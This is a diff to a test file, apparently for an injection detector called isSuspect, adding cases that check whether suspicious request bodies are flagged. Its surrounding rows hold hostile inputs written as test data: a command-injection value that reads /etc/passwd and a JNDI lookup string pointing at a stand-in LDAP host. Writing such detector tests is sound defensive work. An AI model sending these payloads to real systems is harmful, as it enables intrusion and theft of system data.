@@ -63,6 +63,9 @@ describe('ENG-04 code where an API takes code', () => {
     ['a statement in a code of a coupon', '/v1/coupons', { code: STATEMENT }],
     ['a command in a task', '/v1/tasks', { title: 'x', command: '; cat /etc/passwd' }],
     ['code in a comment', '/orders/comments', { content: CODE }],
+    ['a statement in what is looked for in logs', '/logs/search', { value: STATEMENT }],
+    ['a statement in the code of a worker', '/workers', { code: STATEMENT }],
+    ['markup in the content of a report', '/reports/generate', { content: PAGE }],
     ['a lookup in a name', '/api/v2/logs', { service: '${jndi:ldap://x.example/a}' }],
   ] as const)
     it(`is one as ${what}`, () => assert.equal(isSuspect(path, body), true));
